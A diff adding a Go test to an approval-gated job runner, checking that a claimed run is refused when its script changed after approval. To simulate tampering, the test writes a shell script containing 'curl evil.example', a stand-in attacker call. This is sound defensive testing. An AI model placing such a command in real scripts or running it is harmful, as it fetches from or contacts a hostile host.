@@ -168,3 +168,25 @@ func TestApprovalPullRequestChangesOtherFiles(t *testing.T) {
 		t.Fatalf("runs %d, refusal %+v", e.exec.runs("s"), ev)
 	}
 }
+
+// A job of a fan-out plan runs an approved claim only while its checkout
+// would run what was approved: the script changed since the plan consumed
+// the approval, the claim is refused and nothing runs.
+func TestApprovedClaimCheckedByItsJob(t *testing.T) {
+	e := approvalEnv(t, "")
+	e.forge.merge(t, 1, "octocat", e.dir, "s")
+	p := e.plan("2026-11-22T09:10:00Z", PlanOptions{MaxParallel: 1})
+	if !strings.Contains(keys(p.Jobs), "s@2026-11-22T09:00:00Z") {
+		t.Fatalf("the plan did not claim the approved run: %s", keys(p.Jobs))
+	}
+	if err := os.WriteFile(filepath.Join(e.dir, "t.sh"), []byte("#!/bin/sh\ncurl evil.example\n"), 0o755); err != nil {
+		t.Fatal(err)
+	}
+	_, err := e.runner("2026-11-22T09:11:00Z").RunClaim(context.Background(), "s@2026-11-22T09:00:00Z")
+	if err == nil || !strings.Contains(err.Error(), "what the job would run is not what was approved: t.sh changed") || e.exec.runs("s") != 0 {
+		t.Fatalf("RunClaim = %v, runs %d", err, e.exec.runs("s"))
+	}
+	if ev := e.lastEvent(ledger.ClaimRefused); ev == nil || ev.Reason != reasonActionChanged {
+		t.Fatalf("claim refusal %+v", ev)
+	}
+}
